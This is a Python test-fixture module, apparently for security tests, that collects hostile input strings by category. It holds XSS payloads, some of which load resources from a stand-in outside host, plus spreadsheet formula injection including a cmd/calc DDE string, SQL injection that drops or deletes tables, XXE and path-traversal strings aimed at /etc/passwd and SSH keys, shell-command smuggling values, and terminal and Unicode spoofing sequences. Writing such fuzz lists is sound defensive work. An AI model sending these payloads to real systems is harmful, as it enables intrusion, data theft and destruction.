"""Strings that strangers might send, for every way in and every way out.  Whatever runs sets ``window.hacked``.

``STRINGS`` are valid Unicode without halves of characters: what is none is refused at the door
(``tests/test_reports.py``).
"""

from __future__ import annotations

_RUN = "window.hacked=1"
_FETCH = "http://outside.example/x"

_MARKUP = [
    f"<script>{_RUN}</script>", f"</script><script>{_RUN}</script>", f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src={_FETCH}.js></script>", f"<img src=x onerror={_RUN}>", f"<img src={_FETCH}.png>",
    f"<svg onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>", f"<svg><animate onbegin={_RUN} attributeName=x>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>", f"<iframe src={_FETCH}></iframe>",
    f"<object data={_FETCH}></object>", f"<embed src={_FETCH}>", f"<link rel=stylesheet href={_FETCH}.css>",
    f"<style>@import '{_FETCH}.css';</style>", f"<style>*{{background:url({_FETCH})}}</style>",
    f"<meta http-equiv=refresh content='0;url={_FETCH}'>", f"<base href={_FETCH}/>",
    f"<form action={_FETCH}><button>Send</button></form>", f"<body onload={_RUN}>", f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>", f"<audio src=x onerror={_RUN}>", f"<input autofocus onfocus={_RUN}>",
    f"<a href='javascript:{_RUN}'>click</a>", f"<math><mtext><script>{_RUN}</script></mtext></math>",
    f"<template><script>{_RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<textarea></textarea><script>{_RUN}</script>", f"<title></title><script>{_RUN}</script>",
    f"<!-- --><script>{_RUN}</script>", f"<!--><img src=x onerror={_RUN}>-->", f"<![CDATA[<script>{_RUN}</script>]]>",
    f"\"><script>{_RUN}</script>", f"'><script>{_RUN}</script>", f"\" onmouseover=\"{_RUN}",
    f"' onfocus='{_RUN}' x='",
    f"` onerror=`{_RUN}", f"--><script>{_RUN}</script>", f"*/</style><script>{_RUN}</script>", f"</title>{_RUN}",
    f"</textarea><img src=x onerror={_RUN}>", f"<x onclick={_RUN}>click</x>", f"<img/src=x/onerror={_RUN}>",
    f"<img src=x onerror\n=\n{_RUN}>", f"<<script>{_RUN}//<</script>", f"<script\x0c>{_RUN}</script>",
    f"<dialog open><script>{_RUN}</script>", f"<marquee onstart={_RUN}>", f"<p style='background:url({_FETCH})'>",
]
_ENCODED = [
    f"&lt;script&gt;{_RUN}&lt;/script&gt;", "&#60;script&#62;", "&#x3c;img src=x&#x3e;", "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e", "&amp;lt;", "&", "&copy", "&#0;", "&notin;", "&NotEqualTilde;", "+ADw-script+AD4-",
    "\\74script",
    "＜script＞window.hacked=1＜/script＞", "‹script›", "<\u200bscript>", "<scr\u00adipt>", "&#106;avascript:x",
]
_ADDRESSES = [
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\nscript:{_RUN}", f"java\tscript:{_RUN}", f" javascript:{_RUN}",
    f"\x01javascript:{_RUN}", f"vbscript:{_RUN}", f"data:text/html,<script>{_RUN}</script>", "file:///etc/passwd",
    "//outside.example/x", "http://127.0.0.1:22/", "http://[::1]/", "https://outside.example@127.0.0.1/",
    "view-source:x",
]
_TEMPLATES = [
    "{{7*7}}", "{{ config }}", "{% include '/etc/passwd' %}", "{% raw %}", "{% endraw %}{{7*7}}", "{#", "#}",
    "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "{{''.__class__.__mro__}}", "{{this._parent.get_name()}}", "{0}", "{0.__class__}",
    "%s%s%n",
    "%(x)s", "{x!r}", "`${7*7}`", "[[7*7]]", "@{7*7}", "{{{7*7}}}", "{%", "%}", "{{", "}}", "$x$", "\\begin{x}",
]
_MARKDOWN = [
    f"![x]({_FETCH}.png)", f"[x](javascript:{_RUN})", f"[x]({_FETCH})", f"<{_FETCH}>", "# Heading", "* item",
    "1. item",
    "> quote", "```", "~~~", "`code`", "**bold**", "__bold__", "~~struck~~", "---", "| a | b |\n|---|---|\n| 1 | 2 |",
    ":red[text]", ":material/home:", ":smile:", "$E=mc^2$", "$$x$$", "[^1]", "<br>", "\\", "\\*", f"[x]: {_FETCH}",
    "- [ ] x",
]
_FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", f"=HYPERLINK(\"{_FETCH}\")", f"=IMPORTXML(\"{_FETCH}\")",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "'=1+1", "''=1+1", "＝1+1", "＋1", "－1", "＠x", "\u00a0=1+1", "\ufeff=1+1",
    "=", "-",
    "\";=1+1;\"", ",=1+1", "=DDE(\"x\")", "|x", "%x", "0x1", "1e5", "007", "TRUE", "NULL", "\"", "\"\"", ",", ";",
    "a\r\nb",
]
_SQL = [
    "'; DROP TABLE claims; --", "' OR '1'='1", "\"; DELETE FROM reports; --", "1; ATTACH DATABASE 'x' AS y",
    "') UNION SELECT 1 --",
    "%' --", "_%", "\\'", "?", ":name", "@p1", "$1", "/* x */", "x'00'", "''", "NULL; --", "';VACUUM INTO 'x';--",
]
_XML = [
    "]]>", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>", "&e;", "<?php x ?>",
    "<kml:Placemark/>", "xmlns=''", "\x00", "\x01\x02\x08\x0b\x0c\x0e\x1f", "\x7f\x80\x9f", "\ufffe\uffff",
    "\U0010ffff",
]
_TERMINAL = [
    "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://outside.example\x07x\x1b]8;;\x07", "\x1b[6n",
    "\x1bP+q\x1b\\", "\x9b31m", "\x90x\x9c", "\x07", "\x08\x08\x08", "a\rb", "a\x0bb", "\x1b[?1049h", "\x1b(0",
]
_UNICODE = [
    "\u202eesrever", "\u202dx\u202c", "\u2066x\u2069", "\u2067x", "\u2069\u2069", "\u061cx", "\u200ex", "\u200fx",
    "Mos\u200bul", "Mos\u00adul", "Mos\u2060ul", "\ufeffMosul", "M\u043esul", "Ｍosul", "Mo\u0301su\u0308l",
    "\u200d\u200d",
    "e" + "\u0301" * 200, "\u0e49" * 50, "Z\u0351\u036b\u0343", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U000e0041\U000e007f",
    "\u2028", "\u2029", "\u0085", "\u3164", "\u00a0", "\u1680", "\ufff9x\ufffay\ufffb", "\ufdfa" * 20, "ﬁ", "ſ",
    "ı", "İ", "ß",
    "نص عربي", "عربي (x) english", "\u05d0\u202e\u05d1", "a\u0000b", "\U0001d54f", "x" * 3000, "A\u030a", "\u212b",
]
_PATHS = [
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x", "con", "aux.txt",
    "~/.ssh/id_rsa", "$HOME",
    "`id`", "$(id)", "; id", "| id", "&& id", "-rf", "--help", "*", "?", "a\nb", ".", "..", "file\x00.txt",
    "%2e%2e%2f", "\\\\x\\y",
]
_DATA = [
    "{\"a\":", "[" * 50, "\"}]}</script>", "null", "undefined", "NaN", "Infinity", "-0", "1e999", "__proto__",
    "constructor",
    "prototype", "toString", "hasOwnProperty", "__class__", "self", "true", "", " ", "\n", "\t\t", "0", "-1",
    "9" * 40, "1/0",
]

STRINGS: tuple[str, ...] = tuple(dict.fromkeys(
    text for group in (_MARKUP, _ENCODED, _ADDRESSES, _TEMPLATES, _MARKDOWN, _FORMULAS, _SQL, _XML, _TERMINAL, _UNICODE,
                       _PATHS, _DATA) for text in group))
#: Those that say something: what is empty or blank is no name and no sentence.
WORDS = tuple(text for text in STRINGS if text.strip())
